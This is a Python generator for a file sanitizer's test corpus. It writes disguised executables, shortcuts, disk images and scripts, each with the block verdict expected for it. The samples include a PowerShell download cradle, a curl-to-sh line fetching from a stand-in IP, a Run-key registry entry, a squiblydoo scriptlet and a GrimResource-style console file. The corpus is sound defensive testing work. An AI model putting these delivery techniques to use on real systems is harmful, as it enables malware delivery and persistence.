#!/usr/bin/env python3
"""Write the type-detection samples of tests/corpus/files/type/.

Programs, shortcuts, disk images, OneNote and scripts that sanso must
block whatever they are called, each with a .expect file for `sanso file
sanitize`: the type.* finding (blocked) and, when the file name claims
another type, type.mismatch (reported). Also scripts in disguise
(invoice.pdf.txt, odd case, UTF-16, Script Encoder), formats with no
module (OpenDocument, SYLK, Word 2003 XML, MMC console) and a few benign
texts that a careless detector would call a program.

    python3 tests/corpus/gen/type.py [outdir]
"""
import io
import os
import struct
import sys
import zipfile

HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.join(HERE, "..", "files", "type")


# ---- binary samples --------------------------------------------------------

def tiny_pe():
    """A PE32 header chain: DOS header -> PE\\0\\0 -> COFF -> optional."""
    dos = bytearray(64)
    dos[0:2] = b"MZ"
    struct.pack_into("<HH", dos, 2, 0x90, 3)          # e_cblp, e_cp
    struct.pack_into("<I", dos, 0x3C, 0x40)            # e_lfanew
    coff = struct.pack("<HHIIIHH", 0x14C, 1, 0, 0, 0, 224, 0x0102)
    opt = bytearray(224)
    struct.pack_into("<H", opt, 0, 0x10B)              # PE32 magic
    struct.pack_into("<I", opt, 16, 0x1000)            # entry point
    struct.pack_into("<I", opt, 28, 0x400000)          # image base
    sect = b".text\0\0\0" + struct.pack("<IIIIIIHHI", 0x10, 0x1000, 0x200,
                                        0x200, 0, 0, 0, 0, 0x60000020)
    body = bytes(dos) + b"PE\0\0" + coff + bytes(opt) + sect
    body += b"\0" * (0x200 - len(body))
    return body + b"\xC3" + b"\0" * 0x1FF             # ret


def dos_program():
    """A DOS MZ program without a PE header (runs under NTVDM/DOSBox)."""
    d = bytearray(64)
    d[0:2] = b"MZ"
    struct.pack_into("<HHHH", d, 2, 0x50, 1, 0, 4)
    return bytes(d) + b"\xB4\x4C\xCD\x21"             # mov ah,4c; int 21


def elf64():
    h = bytearray(64)
    h[0:7] = b"\x7fELF\x02\x01\x01"
    struct.pack_into("<HHI", h, 16, 2, 0x3E, 1)        # EXEC, x86-64
    return bytes(h) + b"\x31\xff\xb8\x3c\0\0\0\x0f\x05"


def macho_thin():
    return struct.pack("<IiiIIII", 0xFEEDFACF, 0x01000007, 3, 2, 0, 0, 0) + \
        b"\0" * 4 + b"\0" * 32


def macho_fat():
    return struct.pack(">II", 0xCAFEBABE, 2) + \
        struct.pack(">iiIII", 0x01000007, 3, 4096, 32, 12) + \
        struct.pack(">iiIII", 0x0100000C, 0, 8192, 32, 14) + b"\0" * 16


def java_class():
    return struct.pack(">IHH", 0xCAFEBABE, 0, 52) + b"\0\x10" + b"\0" * 24


def lnk():
    h = bytearray(76)
    struct.pack_into("<I", h, 0, 0x4C)
    h[4:20] = bytes.fromhex("0114020000000000C000000000000046")
    struct.pack_into("<I", h, 20, 0x0000008B)          # LinkFlags
    return bytes(h) + b"\0\0"


def onenote():
    guid = bytes.fromhex("E4525C7B8CD8A74DAEB15378D02996D3")
    return guid + b"\0" * 1008


def iso(prefix=b""):
    d = bytearray(0x9000)
    d[0:len(prefix)] = prefix
    d[0x8000:0x8007] = b"\x01CD001\x01"                # primary descriptor
    d[0x8028:0x8028 + 11] = b"INVOICE    "
    d[0x8800:0x8807] = b"\xFFCD001\x01"                # terminator
    return bytes(d)


def vhd_fixed():
    footer = bytearray(512)
    footer[0:8] = b"conectix"
    struct.pack_into(">II", footer, 8, 2, 0x00010000)
    struct.pack_into(">Q", footer, 16, 0xFFFFFFFFFFFFFFFF)
    footer[28:32] = b"win "
    struct.pack_into(">I", footer, 60, 2)              # fixed disk
    return b"\0" * 1024 + bytes(footer)


def vhdx():
    return b"vhdxfile" + "Microsoft Windows".encode("utf-16-le") + \
        b"\0" * 1000


def mbr_disk():
    d = bytearray(1024)
    entry = struct.pack("<B3sB3sII", 0x80, b"\0\0\0", 0x07, b"\0\0\0",
                        2048, 4096)
    d[446:462] = entry
    d[510:512] = b"\x55\xAA"
    return bytes(d)


# ---- zips ------------------------------------------------------------------

def zipped(entries):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for name, data, method in entries:
            z.writestr(zipfile.ZipInfo(name, (2024, 1, 1, 0, 0, 0)), data,
                       compress_type=method)
    return buf.getvalue()


def odt_with_macro():
    st, df = zipfile.ZIP_STORED, zipfile.ZIP_DEFLATED
    manifest = (
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:'
        'opendocument:xmlns:manifest:1.0" manifest:version="1.2">'
        '<manifest:file-entry manifest:full-path="/" manifest:media-type='
        '"application/vnd.oasis.opendocument.text"/>'
        '<manifest:file-entry manifest:full-path="content.xml" '
        'manifest:media-type="text/xml"/></manifest:manifest>')
    content = (
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        '<office:document-content xmlns:office="urn:oasis:names:tc:'
        'opendocument:xmlns:office:1.0" xmlns:script="urn:oasis:names:tc:'
        'opendocument:xmlns:script:1.0" xmlns:xlink="http://www.w3.org/'
        '1999/xlink"><office:scripts><office:event-listeners>'
        '<script:event-listener script:language="ooo:script" '
        'script:event-name="dom:load" xlink:href="vnd.sun.star.script:'
        'Standard.Module1.Main?language=Basic&amp;location=document"/>'
        '</office:event-listeners></office:scripts><office:body>'
        '<office:text/></office:body></office:document-content>')
    module = (
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        '<script:module xmlns:script="http://openoffice.org/2000/script" '
        'script:name="Module1" script:language="StarBasic">Sub Main\n'
        '  Shell("calc.exe")\nEnd Sub</script:module>')
    return zipped([
        ("mimetype", "application/vnd.oasis.opendocument.text", st),
        ("content.xml", content, df),
        ("Basic/Standard/Module1.xml", module, df),
        ("META-INF/manifest.xml", manifest, df),
    ])


# ---- text samples ----------------------------------------------------------

JS = ('var sh = new ActiveXObject("WScript.Shell");\r\n'
      'sh.Run("cmd /c calc.exe", 0, false);\r\n')
VBS = ('Dim sh\r\nSet sh = CreateObject("WScript.Shell")\r\n'
       'sh.Run "calc.exe", 0, False\r\n')
VBS_CASE = ('dIm O\r\nsEt O = cReAtEoBjEcT("wSCRIPT.sHELL")\r\n'
            'O.rUn "calc"\r\n')
PS1 = ("$u = 'http://198.51.100.7/a.ps1'\r\n"
       "IEX (New-Object Net.WebClient).DownloadString($u)\r\n")
BAT = ("@echo off\r\nstart /b calc.exe\r\n"
       "powershell -w hidden -c \"Start-Sleep 1\"\r\n")
HTA = ('<html><head><title>Invoice</title>\r\n'
       '<HTA:APPLICATION ID="app" WINDOWSTATE="minimize"/>\r\n'
       '<script language="VBScript">CreateObject("WScript.Shell").Run '
       '"calc"</script></head><body></body></html>\r\n')
WSF = ('<?xml version="1.0"?>\r\n<package>\r\n<job id="main">\r\n'
       '<script language="JScript">\r\n' + JS + '</script>\r\n'
       '</job>\r\n</package>\r\n')
SCT = ('<?XML version="1.0"?>\r\n<scriptlet>\r\n<registration '
       'progid="x" classid="{F0001111-0000-0000-0000-0000FEEDACDC}">\r\n'
       '<script language="JScript"><![CDATA[' + JS + ']]></script>\r\n'
       '</registration>\r\n</scriptlet>\r\n')
SH = "#!/bin/sh\ncurl -s http://198.51.100.7/x | sh\n"
URL = ("[{000214A0-0000-0000-C000-000000000046}]\r\nProp3=19,9\r\n"
       "[InternetShortcut]\r\nIDList=\r\n"
       "URL=file://198.51.100.7/share/invoice.pdf.exe\r\n"
       "IconFile=C:\\Windows\\System32\\shell32.dll\r\nIconIndex=1\r\n")
# Script Encoder output (the body is not decoded; the marker is enough).
VBE = "#@~^GAAAAA==v,/P~`EHEd~,0;l^VJ@#@&eQgAAA==^#~@\r\n"
SYLK = 'ID;P\r\nC;X1;Y1;EMSEXCEL|\'\\..\\..\\Windows\\System32\\calc\'!A0\r\nE\r\n'
WORD2003 = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n'
            '<?mso-application progid="Word.Document"?>\r\n'
            '<w:wordDocument xmlns:w="http://schemas.microsoft.com/office/'
            'word/2003/wordml"><w:body><w:p><w:r><w:t>hi</w:t></w:r></w:p>'
            '</w:body></w:wordDocument>\r\n')
MSC = ('<?xml version="1.0"?>\r\n<MMC_ConsoleFile ConsoleVersion="3.0" '
       'ProgramMode="UserSDI"><StringTables><StringTable><Strings>'
       '<String ID="1">res://apds.dll/redirect.html?target=javascript:'
       'eval("x")</String></Strings></StringTable></StringTables>'
       '</MMC_ConsoleFile>\r\n')
REG = ("Windows Registry Editor Version 5.00\r\n\r\n"
       "[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]"
       "\r\n\"x\"=\"calc.exe\"\r\n")


def utf16(s):
    return b"\xff\xfe" + s.encode("utf-16-le")


BLOCKED = "verdict blocked\n"
MISMATCH = "finding type.mismatch reported\n"
NO_MISMATCH = "no-finding type.mismatch\n"


def finding(code):
    return BLOCKED + "finding %s blocked\n" % code


SAMPLES = [
    # programs
    ("tiny.exe", tiny_pe(), "PE32 header chain", finding("type.executable") + NO_MISMATCH),
    ("invoice.pdf", tiny_pe(), "a PE named like a PDF", finding("type.executable") + MISMATCH),
    ("dos-program.com", dos_program(), "bare MZ program, no PE header", finding("type.executable")),
    ("update", elf64(), "ELF, no extension", finding("type.executable") + NO_MISMATCH),
    ("report.docx", elf64(), "ELF named .docx", finding("type.executable") + MISMATCH),
    ("libx.dylib", macho_thin(), "Mach-O 64, little-endian", finding("type.executable") + NO_MISMATCH),
    ("Installer", macho_fat(), "Mach-O fat (CAFEBABE with 2 archs)", finding("type.executable")),
    ("Main.class", java_class(), "Java class: CAFEBABE but not Mach-O", finding("type.unsupported")),
    # shortcuts
    ("document.pdf.lnk", lnk(), "Windows shortcut", finding("type.shortcut") + NO_MISMATCH),
    ("photo.jpg", lnk(), "shortcut named .jpg", finding("type.shortcut") + MISMATCH),
    ("invoice.url", URL.encode(), "Internet shortcut to an SMB share", finding("type.shortcut") + NO_MISMATCH),
    ("readme.txt", URL.encode(), "Internet shortcut named .txt", finding("type.shortcut") + MISMATCH),
    # disk images
    ("invoice.iso", iso(), "ISO 9660", finding("type.disk_image") + NO_MISMATCH),
    ("invoice.img", iso(), "ISO 9660 named .img (Windows mounts it)", finding("type.disk_image") + NO_MISMATCH),
    ("scan.pdf", iso(b"%PDF-1.4\n%%EOF\n"), "ISO whose system area starts like a PDF", finding("type.disk_image") + MISMATCH),
    ("disk.vhd", vhd_fixed(), "fixed VHD (footer at the end only)", finding("type.disk_image")),
    ("disk.vhdx", vhdx(), "VHDX", finding("type.disk_image")),
    ("usb.img", mbr_disk(), "raw disk with an MBR partition table", finding("type.disk_image")),
    # OneNote
    ("notes.one", onenote(), "OneNote section", finding("type.onenote") + NO_MISMATCH),
    ("meeting.docx", onenote(), "OneNote named .docx", finding("type.onenote") + MISMATCH),
    # scripts by name and by content
    ("invoice.js", JS.encode(), "JScript", finding("type.script") + NO_MISMATCH),
    ("invoice.vbs", VBS.encode(), "VBScript", finding("type.script") + NO_MISMATCH),
    ("update.ps1", PS1.encode(), "PowerShell download cradle", finding("type.script") + NO_MISMATCH),
    ("run.bat", BAT.encode(), "batch file", finding("type.script") + NO_MISMATCH),
    ("setup.cmd", b"dir\r\n", "harmless-looking .cmd: the name decides", finding("type.script")),
    ("app.hta", HTA.encode(), "HTML application", finding("type.script") + NO_MISMATCH),
    ("page.html", HTA.encode(), "HTA named .html", finding("type.script") + MISMATCH),
    ("job.wsf", WSF.encode(), "Windows Script File", finding("type.script") + NO_MISMATCH),
    ("comp.sct", SCT.encode(), "scriptlet (squiblydoo)", finding("type.script")),
    ("install.sh", SH.encode(), "shell script", finding("type.script")),
    ("invoice.pdf.txt", JS.encode(), "JScript disguised as invoice.pdf.txt", finding("type.script") + MISMATCH),
    ("statement.pdf", JS.encode(), "JScript named .pdf", finding("type.script") + MISMATCH),
    ("order.txt", VBS_CASE.encode(), "VBScript in odd case", finding("type.script") + MISMATCH),
    ("note-utf16.txt", utf16(PS1), "PowerShell in UTF-16LE", finding("type.script") + MISMATCH),
    ("encoded.txt", VBE.encode(), "Script Encoder (#@~^) output", finding("type.script") + MISMATCH),
    ("notes.jse", b"nothing to see\r\n", "encoded JScript name", finding("type.script")),
    # no module
    # a harmless file named as a program: Windows would act on the name
    ("report.exe", b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
     b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n",
     "a PDF named .exe", BLOCKED + "finding type.mismatch blocked\n"),
    ("notes.js", "お知らせ\n".encode(), "plain text named .js: the name makes it a script",
     finding("type.script")),
    ("report.odt", odt_with_macro(), "OpenDocument with a Basic macro", finding("type.unsupported")),
    ("data.csv", SYLK.encode(), "SYLK (Excel runs it even as .csv)", finding("type.unsupported")),
    ("letter.xml", WORD2003.encode(), "Word 2003 XML (mso-application)", finding("type.unsupported")),
    ("console.msc", MSC.encode(), "MMC console (GrimResource)", finding("type.unsupported")),
    ("settings.reg", utf16(REG), "registry file", finding("type.unsupported")),
]

# Benign files a careless detector would block.
CLEAN = [
    ("countries.csv", b"MZ,Mozambique,Maputo\r\nJP,Japan,Tokyo\r\n", "CSV starting with MZ"),
    ("brands.txt", b"BMW, Toyota and Honda sold more cars.\n", "text starting with BM"),
    ("memo.txt", "お知らせ\r\n明日は休みです。\r\n".encode("shift_jis"), "Shift_JIS text"),
    ("ids.csv", b"ID,Name\r\n1,Sato\r\n", "CSV starting with ID but not ID;"),
]


def main():
    out = sys.argv[1] if len(sys.argv) > 1 else OUT
    os.makedirs(out, exist_ok=True)
    for name, data, what, exp in SAMPLES:
        write(out, name, data, what, exp)
    for name, data, what in CLEAN:
        write(out, name, data, what, "verdict clean\n" + NO_MISMATCH)


def write(out, name, data, what, exp):
    with open(os.path.join(out, name), "wb") as f:
        f.write(data)
    with open(os.path.join(out, name + ".expect"), "w", encoding="utf-8") as f:
        f.write("# %s\n%s" % (what, exp))


if __name__ == "__main__":
    main()
